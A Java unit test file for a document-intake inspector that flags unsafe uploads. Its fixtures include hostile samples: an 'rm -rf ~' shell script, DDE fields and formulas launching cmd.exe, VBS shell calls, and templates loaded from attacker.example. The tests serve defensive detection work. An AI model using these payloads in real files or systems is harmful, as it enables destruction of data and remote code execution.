package uk.gov.education.datasharing.intake.inspect;

import uk.gov.education.datasharing.intake.HostileFiles;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import uk.gov.education.datasharing.intake.Documents;
import uk.gov.education.datasharing.intake.ProjectSchemas;
import uk.gov.education.datasharing.intake.io.EncryptedSpool;
import uk.gov.education.datasharing.intake.model.Defect;
import uk.gov.education.datasharing.intake.model.DocumentKind;
import uk.gov.education.datasharing.intake.model.FileCheck.Scan;
import uk.gov.education.datasharing.intake.model.FileCheck.Verdict;
import uk.gov.education.datasharing.intake.model.Problem;
import uk.gov.education.datasharing.intake.model.ProblemCode;
import uk.gov.education.datasharing.intake.model.ReceivedFile;

import static org.assertj.core.api.Assertions.assertThat;

@Timeout(30) // hostile input: a regression into a hang fails here instead of hanging the build
public class FileInspectorTest {

    static final FileInspector.Limits LIMITS = new FileInspector.Limits(32 << 20, 10_000, 256L << 20, 200_000);

    @TempDir
    Path dir;

    /** Whether the extractor unpacked the file, when it is an archive. */
    boolean unpacked;

    FilePolicy.Judgement judge(String name, String declaredType, byte[] content) throws IOException {
        return judge(new FileInspector(LIMITS, Scanner.NONE), name, declaredType, content);
    }

    FilePolicy.Judgement judge(FileInspector inspector, String name, String declaredType, byte[] content) throws IOException {
        try (EncryptedSpool spool = EncryptedSpool.write(dir, "file-", out -> out.write(content), Long.MAX_VALUE)) {
            ContentInspection inspection = inspector.inspect(spool);
            ReceivedFile file = new ReceivedFile(1, "1.2", name, name, declaredType, content.length, spool.sha256());
            return FilePolicy.archiveUnpacked(new FilePolicy().judge(file, inspection), file, unpacked);
        }
    }

    public FilePolicy.Judgement judgeIn(Path spoolDir, String name, byte[] content) throws IOException {
        this.dir = spoolDir;
        return judge(name, "application/octet-stream", content);
    }

    static List<ProblemCode> codes(FilePolicy.Judgement j) {
        return j.findings().stream().map(Problem::code).toList();
    }

    @Test
    void plainWordWorkbookAndPdfAreAcceptedWithTheirTypesFromContent() throws IOException {
        var docx = judge("form.docx", "application/octet-stream", Documents.docx("Hello"));
        var xlsx = judge("tables.xlsx", "application/vnd.ms-excel", Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}})));
        var pdf = judge("evidence.pdf", "application/pdf", Documents.pdf("A certificate"));
        assertThat(docx.check().detectedType()).isEqualTo(FileTypes.DOCX);
        assertThat(xlsx.check().detectedType()).isEqualTo(FileTypes.XLSX);
        assertThat(pdf.check().detectedType()).isEqualTo(FileTypes.PDF);
        for (var j : List.of(docx, xlsx, pdf)) {
            assertThat(j.check().verdict()).isEqualTo(Verdict.ACCEPTED);
            assertThat(j.findings()).isEmpty();
        }
    }

    @Test
    void anUnscannedFileIsNeverRecordedClean() throws IOException {
        assertThat(judge("form.docx", "", Documents.docx("Hello")).check().scan()).isEqualTo(Scan.NOT_SCANNED);
    }

    @Test
    void aScannerThatFindsAThreatMakesTheFileUnsafe() throws IOException {
        Scanner eicar = (in, size) -> new String(in.readAllBytes(), StandardCharsets.ISO_8859_1).contains("EICAR-STANDARD-ANTIVIRUS-TEST-FILE")
                ? Scanner.Result.infected("Eicar-Test-Signature") : Scanner.Result.clean();
        var infected = judge(new FileInspector(LIMITS, eicar), "note.txt", "text/plain",
                "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*".getBytes(StandardCharsets.US_ASCII));
        var clean = judge(new FileInspector(LIMITS, eicar), "note.pdf", "application/pdf", Documents.pdf("nothing"));
        assertThat(infected.check().verdict()).isEqualTo(Verdict.UNSAFE);
        assertThat(codes(infected)).contains(ProblemCode.FILE_INFECTED);
        assertThat(infected.findings().get(0).found()).isEqualTo("Eicar-Test-Signature");
        assertThat(clean.check().scan()).isEqualTo(Scan.CLEAN);
        assertThat(clean.check().verdict()).isEqualTo(Verdict.ACCEPTED);
    }

    @Test
    void aScannerThatFailsGivesNoVerdictAtAllSoTheMessageWaits() {
        Scanner broken = (in, size) -> {
            throw new IOException("connection refused");
        };
        Scanner crashing = (in, size) -> {
            throw new IllegalStateException("bug");
        };
        for (Scanner scanner : List.of(broken, crashing)) {
            org.assertj.core.api.Assertions.assertThatThrownBy(() -> judge(new FileInspector(LIMITS, scanner), "a.pdf", "", Documents.pdf("x")))
                    .isInstanceOf(ScannerUnavailableException.class);
        }
    }

    @Test
    void aFileTooLargeForTheScannerIsRefusedNotClean() throws IOException {
        var j = judge(new FileInspector(LIMITS, (in, size) -> Scanner.Result.TOO_LARGE), "a.pdf", "", Documents.pdf("x"));
        assertThat(j.check().scan()).isEqualTo(Scan.TOO_LARGE);
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_NOT_SCANNED);
        assertThat(j.check().verdict()).isEqualTo(Verdict.UNSAFE);
    }

    @Test
    void anExecutableIsUnsafeWhateverItIsCalled() throws IOException {
        for (String name : List.of("report.pdf", "form.docx", "setup.exe", "noextension")) {
            var j = judge(name, "application/pdf", Documents.exe());
            assertThat(j.check().verdict()).as(name).isEqualTo(Verdict.UNSAFE);
            assertThat(codes(j)).as(name).containsExactly(ProblemCode.FILE_IS_PROGRAM);
        }
    }

    @Test
    void scriptsAreUnsafeByContentOrByAName() throws IOException {
        var shebang = judge("notes.txt", "text/plain", "#!/bin/sh\nrm -rf ~\n".getBytes(StandardCharsets.US_ASCII));
        var vbs = judge("invoice.vbs", "text/plain", "CreateObject(\"WScript.Shell\").Run \"calc\"".getBytes(StandardCharsets.US_ASCII));
        var lnk = judge("form.docx.lnk", "application/octet-stream", new byte[] {0x4c, 0, 0, 0, 1, 0x14, 2, 0});
        assertThat(List.of(shebang, vbs, lnk)).allSatisfy(j -> {
            assertThat(j.check().verdict()).isEqualTo(Verdict.UNSAFE);
            assertThat(codes(j)).contains(ProblemCode.FILE_IS_PROGRAM);
        });
    }

    @Test
    void aMacroEnabledDocumentIsUnsafeEvenWhenRenamedDocx() throws IOException {
        var j = judge("application-form.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Documents.docm());
        assertThat(j.check().verdict()).isEqualTo(Verdict.UNSAFE);
        assertThat(codes(j)).contains(ProblemCode.FILE_HAS_MACROS);
        assertThat(j.check().detectedType()).contains("macroenabled");
    }

    @Test
    void aVbaPartIsFoundEvenWhenTheContentTypesHideIt() throws IOException {
        byte[] sneaky = Documents.edit(Documents.docx("x"), Map.of("word/vbaProject.bin", Documents.ole("VBA/")));
        var j = judge("form.docx", "", sneaky);
        assertThat(codes(j)).contains(ProblemCode.FILE_HAS_MACROS);
    }

    @Test
    void embeddedObjectsAreUnsafe() throws IOException {
        byte[] embedded = Documents.edit(Documents.docx("see the attached object"),
                Map.of("word/embeddings/oleObject1.bin", Documents.ole("\u0001Ole10Native")));
        var j = judge("form.docx", "", embedded);
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
    }

    @Test
    void anExternalTemplateOrLinkedPictureIsRemoteContent() throws IOException {
        var template = judge("form.docx", "", Documents.docxWith("word/_rels/settings.xml.rels",
                Documents.relationships("attachedTemplate", "http://attacker.example/t.dotm", true)));
        var picture = judge("form.docx", "", Documents.docxWith("word/_rels/document.xml.rels",
                Documents.relationships("image", "https://tracker.example/pixel.png", true)));
        var hyperlink = judge("form.docx", "", Documents.docxWith("word/_rels/document.xml.rels",
                Documents.relationships("hyperlink", "https://www.gov.uk/", true)));
        assertThat(codes(template)).containsExactly(ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertThat(template.findings().get(0).found()).isEqualTo("a template loaded from elsewhere");
        assertThat(codes(picture)).containsExactly(ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertThat(hyperlink.check().verdict()).isEqualTo(Verdict.ACCEPTED);
    }

    @Test
    void aChartsOwnDataWorkbookIsNotAnEmbeddedObjectButAnyOtherEmbeddingIs() throws IOException {
        byte[] data = Documents.xlsx(Map.of("Sheet1", new String[][] {{"year", "pupils"}, {"2024", "12"}}));
        String chartRels = Documents.relationships("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", false);
        var chart = judge("form.docx", "", withEmbedding(Documents.docx("see the chart"), Map.of(
                "word/charts/chart1.xml", "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"/>".getBytes(StandardCharsets.UTF_8),
                "word/charts/_rels/chart1.xml.rels", chartRels.getBytes(StandardCharsets.UTF_8),
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data)));
        var unreferenced = judge("form.docx", "", withEmbedding(Documents.docx("no chart here"), Map.of(
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data)));
        var fromTheBody = judge("form.docx", "", withEmbedding(Documents.docx("an object in the text"), Map.of(
                "word/_rels/document.xml.rels", chartRels.getBytes(StandardCharsets.UTF_8),
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data)));
        var macroWorkbook = judge("form.docx", "", withEmbedding(Documents.docx("see the chart"), Map.of(
                "word/charts/chart1.xml", "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"/>".getBytes(StandardCharsets.UTF_8),
                "word/charts/_rels/chart1.xml.rels",
                Documents.relationships("package", "../embeddings/book.xlsm", false).getBytes(StandardCharsets.UTF_8),
                "word/embeddings/book.xlsm", data)));
        assertThat(chart.check().verdict()).isEqualTo(Verdict.ACCEPTED);
        assertThat(codes(unreferenced)).containsExactly(ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertThat(codes(fromTheBody)).containsExactly(ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertThat(codes(macroWorkbook)).contains(ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
    }

    /** The package with the parts added and their types declared, as Word writes them, so that POI opens it. */
    static byte[] withEmbedding(byte[] docx, Map<String, byte[]> parts) {
        String types = new String(Documents.read(docx, "[Content_Types].xml"), StandardCharsets.UTF_8).replace("</Types>",
                "<Default Extension=\"xlsx\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\"/>"
                        + (parts.keySet().stream().anyMatch(p -> p.endsWith(".xlsm"))
                                ? "<Default Extension=\"xlsm\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.12\"/>" : "")
                        + "<Override PartName=\"/word/charts/chart1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.drawingml.chart+xml\"/>"
                        + "</Types>");
        Map<String, byte[]> changes = new java.util.HashMap<>(parts);
        changes.put("[Content_Types].xml", types.getBytes(StandardCharsets.UTF_8));
        return Documents.edit(docx, changes);
    }

    @Test
    void aTemplateOnTheAuthorsOwnDiskIsNotRemoteButOneOnAShareOrTheWebIs() throws IOException {
        // the corpus's "Normal.dotm": Word records the bare name of the template the document was made from
        for (String local : List.of("file:///C:\\Users\\author\\Templates\\DfE%20form.dotx", "C:/Templates/form.dotx", "Normal.dotm",
                "Templates\\Normal.dotm")) {
            var j = judge("form.docx", "", Documents.docxWith("word/_rels/settings.xml.rels", Documents.relationships("attachedTemplate", local, true)));
            assertThat(j.check().verdict()).as(local).isEqualTo(Verdict.ACCEPTED);
        }
        for (String remote : List.of("\\\\attacker.example\\share\\t.dotm", "file://attacker.example/share/t.dotm", "https://attacker.example/t.dotm")) {
            var j = judge("form.docx", "", Documents.docxWith("word/_rels/settings.xml.rels", Documents.relationships("attachedTemplate", remote, true)));
            assertThat(codes(j)).as(remote).containsExactly(ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        }
    }

    @Test
    void workbookDataConnectionsAndMailMergeListsAreRemoteContent() throws IOException {
        byte[] workbook = Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}}));
        var connection = judge("tables.xlsx", "", Documents.edit(workbook, Map.of("xl/connections.xml",
                ("<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" name=\"q\" type=\"4\">"
                        + "<webPr url=\"https://attacker.example/data\"/></connection></connections>").getBytes(StandardCharsets.UTF_8))));
        var mailMerge = judge("form.docx", "", Documents.docxWith("word/_rels/settings.xml.rels",
                Documents.relationships("mailMergeSource", "\\\\attacker.example\\list.xlsx", true)));
        assertThat(codes(connection)).containsExactly(ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertThat(connection.findings().get(0).found()).isEqualTo("a data connection to elsewhere");
        assertThat(codes(mailMerge)).containsExactly(ProblemCode.FILE_LOADS_REMOTE_CONTENT);
    }

    @Test
    void ddeFieldsInWordAndDdeFormulasInExcelAreUnsafe() throws IOException {
        var simple = judge("form.docx", "", Documents.docxWithBody(
                "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"/></w:p>"));
        var split = judge("form.docx", "", Documents.docxWithBody(
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
                        + "<w:r><w:instrText>E cmd \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"));
        byte[] workbook = Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}}));
        String sheet = new String(Documents.read(workbook, "xl/worksheets/sheet1.xml"), StandardCharsets.UTF_8)
                .replace("</sheetData>", "<row r=\"5\"><c r=\"A5\"><f>cmd|' /C calc'!A0</f></c></row></sheetData>");
        var formula = judge("tables.xlsx", "", Documents.edit(workbook, Map.of("xl/worksheets/sheet1.xml", sheet.getBytes(StandardCharsets.UTF_8))));
        var pageField = judge("form.docx", "", Documents.docxWithBody("<w:p><w:fldSimple w:instr=\" PAGE \"/></w:p>"));
        assertThat(codes(simple)).containsExactly(ProblemCode.FILE_HAS_DDE);
        assertThat(codes(split)).containsExactly(ProblemCode.FILE_HAS_DDE);
        assertThat(codes(formula)).containsExactly(ProblemCode.FILE_HAS_DDE);
        assertThat(pageField.check().verdict()).isEqualTo(Verdict.ACCEPTED);
    }

    @Test
    void passwordProtectedOfficeFilesAndPdfsAreUnsafeBecauseTheyCannotBeChecked() throws IOException {
        var docx = judge("form.docx", "", Documents.encryptedDocx());
        var pdf = judge("evidence.pdf", "application/pdf", Documents.pdfWithUserPassword());
        assertThat(codes(docx)).containsExactly(ProblemCode.FILE_ENCRYPTED);
        assertThat(codes(pdf)).containsExactly(ProblemCode.FILE_ENCRYPTED);
    }

    @Test
    void pdfJavaScriptAndLaunchActionsAreUnsafe() throws IOException {
        assertThat(codes(judge("a.pdf", "", Documents.pdfWithJavaScript()))).containsExactly(ProblemCode.PDF_HAS_SCRIPTS);
        assertThat(codes(judge("a.pdf", "", Documents.pdfWithLaunchAction()))).containsExactly(ProblemCode.PDF_HAS_SCRIPTS);
    }

    @Test
    void legacyAndOtherFormatsAreAskedForAgainInTheRightFormat() throws IOException {
        var xls = judge("tables.xls", "application/vnd.ms-excel", Documents.xls());
        var doc = judge("form.doc", "application/msword", Documents.ole("WordDocument", "1Table"));
        var txt = judge("notes.txt", "text/plain", "just text".getBytes(StandardCharsets.US_ASCII));
        assertThat(codes(xls)).containsExactly(ProblemCode.SEND_AS_XLSX);
        assertThat(codes(doc)).containsExactly(ProblemCode.SEND_AS_DOCX);
        assertThat(codes(txt)).containsExactly(ProblemCode.FORMAT_NOT_ACCEPTED);
        assertThat(List.of(xls, doc, txt)).allSatisfy(j -> assertThat(j.check().verdict()).isEqualTo(Verdict.NOT_ACCEPTED));
        assertThat(ProjectSchemas.render(xls.findings().get(0)).fix()).contains(".xlsx");
    }

    @Test
    void legacyFilesWithMacrosAreUnsafeRatherThanJustTheWrongFormat() throws IOException {
        var j = judge("tables.xls", "application/vnd.ms-excel", Documents.ole("Workbook", "_VBA_PROJECT_CUR/"));
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_HAS_MACROS);
    }

    @Test
    void imagesAreAcceptedAsEvidence() throws IOException {
        byte[] png = java.util.Base64.getDecoder().decode(
                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");
        var j = judge("certificate.png", "image/png", png);
        assertThat(j.check().verdict()).isEqualTo(Verdict.ACCEPTED);
        assertThat(j.check().detectedType()).isEqualTo("image/png");
    }

    @Test
    void aNameOrDeclaredTypeThatDisagreesWithTheContentIsAWarning() throws IOException {
        var named = judge("evidence.pdf", "application/pdf", Documents.docx("actually Word"));
        var declared = judge("form", "application/pdf", Documents.docx("actually Word"));
        assertThat(named.check().verdict()).isEqualTo(Verdict.ACCEPTED);
        assertThat(named.findings()).singleElement().satisfies(d -> {
            assertThat(d.code()).isEqualTo(ProblemCode.FILE_TYPE_MISMATCH);
            assertThat(d.severity()).isEqualTo(Defect.Severity.WARNING);
            assertThat(d.found()).isEqualTo("named .pdf, but it is a Word document (.docx)");
        });
        assertThat(codes(declared)).containsExactly(ProblemCode.FILE_TYPE_MISMATCH);
    }

    @Test
    void aDamagedDocumentIsNotAcceptedAndSaysSo() throws IOException {
        byte[] pdf = Documents.pdf("x");
        byte[] truncated = java.util.Arrays.copyOf(pdf, 20);
        var j = judge("a.pdf", "application/pdf", truncated);
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_DAMAGED);
    }

    @Test
    void documentsAreRecognisedByTemplatePropertyTagsStructureAndHeadings() throws IOException {
        var byProperty = judge("x.docx", "", Documents.docx(Map.of(DocumentKind.TEMPLATE_PROPERTY, "security-questionnaire",
                DocumentKind.TEMPLATE_VERSION_PROPERTY, "1"), "anything"));
        var byTags = judge("x.docx", "", Documents.docxWithBody(Documents.contentControl("applicant.name", "A")
                + Documents.contentControl("applicant.email", "a@example.org") + Documents.contentControl("project.title", "T")));
        var byStructure = judge("x.xlsx", "", Documents.npdWorkbook("NPD Alias"));
        var byHeadings = judge("x.docx", "", Documents.docx("Application for DfE personal data", "1. Applicant", "Name: A",
                "2. Project", "3. Lawful basis", "4. Data", "5. Access", "6. Declaration"));
        var questionnaire = judge("x.docx", "", Documents.docx("Information security questionnaire", "Question 1"));
        var moj = judge("x.pdf", "", Documents.pdf("Ministry of Justice", "Data First application form"));
        var dsa = judge("x.pdf", "", Documents.pdf("Data sharing agreement between A and B"));
        var bpss = judge("x.pdf", "", Documents.pdf("Baseline Personnel Security Standard (BPSS) certificate"));
        var byName = judge("BPSS checks.pdf", "", Documents.pdf("Certificate"));
        var other = judge("x.pdf", "", Documents.pdf("Some letter"));

        assertThat(byProperty.check().kind()).isEqualTo(DocumentKind.SECURITY_QUESTIONNAIRE);
        assertThat(byProperty.check().recognisedBy()).isEqualTo("template version 1");
        assertThat(byTags.check().kind()).isEqualTo(DocumentKind.APPLICATION_FORM);
        assertThat(byTags.check().recognisedBy()).isEqualTo("form fields");
        assertThat(byStructure.check().kind()).isEqualTo(DocumentKind.DATA_TABLES_NPD);
        assertThat(byStructure.check().recognisedBy()).isEqualTo("data-table layout");
        assertThat(byHeadings.check().kind()).isEqualTo(DocumentKind.APPLICATION_FORM);
        assertThat(byHeadings.check().recognisedBy()).isEqualTo("headings");
        assertThat(questionnaire.check().kind()).isEqualTo(DocumentKind.SECURITY_QUESTIONNAIRE);
        assertThat(moj.check().kind()).isEqualTo(DocumentKind.MOJ_APPLICATION_FORM);
        assertThat(dsa.check().kind()).isEqualTo(DocumentKind.DATA_SHARING_AGREEMENT);
        assertThat(bpss.check().kind()).isEqualTo(DocumentKind.BACKGROUND_CHECK_EVIDENCE);
        assertThat(byName.check().kind()).isEqualTo(DocumentKind.BACKGROUND_CHECK_EVIDENCE);
        assertThat(byName.check().recognisedBy()).isEqualTo("file name only");
        assertThat(other.check().kind()).isEqualTo(DocumentKind.OTHER);
    }

    @Test
    void theFileNameCannotOverrideWhatTheContentSays() throws IOException {
        var j = judge("NPD data tables.xlsx", "", Documents.docx("Information security questionnaire"));
        assertThat(j.check().kind()).isEqualTo(DocumentKind.SECURITY_QUESTIONNAIRE);
    }

    @Test
    void dataTablesFromOtherSourcesAreToldApartByTheirAliasHeader() throws IOException {
        assertThat(judge("x.xlsx", "", Documents.npdWorkbook("ILRAlias")).check().kind()).isEqualTo(DocumentKind.DATA_TABLES_ILR);
        assertThat(judge("x.xlsx", "", Documents.npdWorkbook("SWC Alias")).check().kind()).isEqualTo(DocumentKind.DATA_TABLES_SWC);
    }

    @Test
    void aWorkbookThatOnlyMentionsAnAliasWithoutTheRequestColumnIsNotDataTables() throws IOException {
        var j = judge("x.xlsx", "", Documents.xlsx(Map.of("S", new String[][] {{"NPDAlias", "Description"}})));
        assertThat(j.check().kind()).isEqualTo(DocumentKind.OTHER);
    }

    @Test
    void anOfficeFileWithMoreEntriesThanTheLimitIsRefusedWithoutReadingItsDirectory() throws IOException {
        Map<String, byte[]> entries = new java.util.LinkedHashMap<>();
        for (int i = 0; i < 2_001; i++) {
            entries.put("word/media/" + i + ".bin", new byte[0]);
        }
        byte[] crowded = Documents.edit(Documents.docx("x"), entries);
        var limited = new FileInspector(new FileInspector.Limits(32 << 20, 2_000, 256L << 20, 1_000), Scanner.NONE);
        var j = judge(limited, "form.docx", "", crowded);
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_TOO_COMPLEX);
        assertThat(j.check().verdict()).isEqualTo(Verdict.UNSAFE);
    }

    @Test
    void anOfficeFileThatInflatesBeyondTheLimitIsACompressionBomb() throws IOException {
        String padding = " ".repeat(3 << 20);
        byte[] bomb = Documents.docxWithBody("<w:p><w:r><w:t>x</w:t></w:r></w:p>" + padding);
        var limited = new FileInspector(new FileInspector.Limits(32 << 20, 2_000, 1L << 20, 1_000), Scanner.NONE);
        var j = judge(limited, "form.docx", "", bomb);
        assertThat(bomb.length).isLessThan(64 * 1024);
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_TOO_COMPLEX);
    }

    @Test
    void deeplyNestedXmlIsReportedAsDamagedWithoutExhaustingTheStack() throws IOException {
        String deep = "<w:p>".repeat(50_000) + "</w:p>".repeat(50_000);
        var j = judge("form.docx", "", Documents.docxWithBody(deep));
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_DAMAGED);
    }

    @Test
    void aPdfWithMoreObjectsThanTheLimitIsRefused() throws IOException {
        var limited = new FileInspector(new FileInspector.Limits(32 << 20, 2_000, 1L << 20, 3), Scanner.NONE);
        var j = judge(limited, "a.pdf", "", Documents.pdf("one", "two"));
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_TOO_COMPLEX);
    }

    @Test
    void anArchiveIsAcceptedAsSuchOnlyWhenEveryEntryWasUnpacked() throws IOException {
        byte[] zip = Documents.zip(Map.of("a.pdf", Documents.pdf("x")));
        unpacked = true;
        var whole = judge("evidence.zip", "application/zip", zip);
        unpacked = false;
        var renamed = judge("evidence.pdf", "application/pdf", zip);
        assertThat(whole.check().verdict()).isEqualTo(Verdict.ARCHIVE);
        assertThat(whole.findings()).isEmpty();
        assertThat(renamed.check().verdict()).isEqualTo(Verdict.UNSAFE);
        assertThat(codes(renamed)).containsExactly(ProblemCode.ARCHIVE_NOT_CHECKED);
    }

    @Test
    void anOfficePackageThatPoiCannotOpenIsDamagedNotAnArchive() throws IOException {
        byte[] broken = Documents.edit(Documents.docx("x"), Map.of("word/unknown.part", new byte[] {1, 2, 3}));
        var j = judge("form.docx", "", broken);
        assertThat(j.check().detectedType()).isEqualTo(FileTypes.ZIP);
        assertThat(codes(j)).containsExactly(ProblemCode.FILE_DAMAGED);
    }

    @Test
    void passwordProtectedLegacyWordAndExcelFilesAreUnsafeNotJustTheWrongFormat() throws IOException {
        byte[] fib = new byte[64];
        fib[0] = (byte) 0xEC;
        fib[1] = (byte) 0xA5;
        fib[0x0B] = 0x01; // fEncrypted
        var doc = judge("form.doc", "application/msword", Documents.oleWith("WordDocument", fib, "1Table"));
        var xls = judge("tables.xls", "application/vnd.ms-excel", Documents.encryptedXls());
        assertThat(codes(doc)).containsExactly(ProblemCode.FILE_ENCRYPTED);
        assertThat(codes(xls)).containsExactly(ProblemCode.FILE_ENCRYPTED);
    }

    @Test
    void anRtfWithAnEmbeddedObjectIsUnsafeAndAPlainOneIsTheWrongFormat() throws IOException {
        byte[] plain = "{\\rtf1\\ansi Hello \\b world\\b0}".getBytes(StandardCharsets.US_ASCII);
        byte[] object = "{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}".getBytes(StandardCharsets.US_ASCII);
        assertThat(codes(judge("form.rtf", "", plain))).containsExactly(ProblemCode.SEND_AS_DOCX);
        assertThat(codes(judge("form.docx", "", object))).contains(ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
    }

    @Test
    void webPagesAndSvgPicturesAreUnsafeBecauseTheyRunScripts() throws IOException {
        byte[] html = "<!DOCTYPE html><html><head><script>alert(1)</script></head><body>x</body></html>".getBytes(StandardCharsets.UTF_8);
        byte[] svg = "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                .getBytes(StandardCharsets.UTF_8);
        assertThat(codes(judge("evidence.pdf", "", html))).containsExactly(ProblemCode.FILE_IS_PROGRAM);
        assertThat(codes(judge("logo.png", "", svg))).containsExactly(ProblemCode.FILE_IS_PROGRAM);
    }

    @Test
    void anExcelBinaryWorkbookWithoutMacrosIsAskedForAsXlsx() throws IOException {
        byte[] xlsx = Documents.xlsx(Map.of("S", new String[][] {{"a"}}));
        String types = new String(Documents.read(xlsx, "[Content_Types].xml"), StandardCharsets.UTF_8)
                .replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                        "application/vnd.ms-excel.sheet.binary.macroEnabled.main");
        var j = judge("tables.xlsb", "", Documents.edit(xlsx, Map.of("[Content_Types].xml", types.getBytes(StandardCharsets.UTF_8))));
        assertThat(j.check().detectedType()).isEqualTo("application/vnd.ms-excel.sheet.binary.macroenabled.12");
        assertThat(codes(j)).containsExactly(ProblemCode.SEND_AS_XLSX);
    }

    /** Issue 9: "a|" and 1,997 spaces took 4.2 s against the old DDE pattern; 1,000 such cells about 70 minutes. */
    @Test
    void formulasBuiltToMakeAPatternBacktrackAreReadInLinearTime() throws IOException {
        var spaced = judge("tables.xlsx", "application/octet-stream", HostileFiles.spacedPipeFormulas(1_000, 1_997));
        assertThat(spaced.check().verdict()).isEqualTo(Verdict.ACCEPTED);
        assertThat(codes(spaced)).doesNotContain(ProblemCode.FILE_HAS_DDE);
    }
}
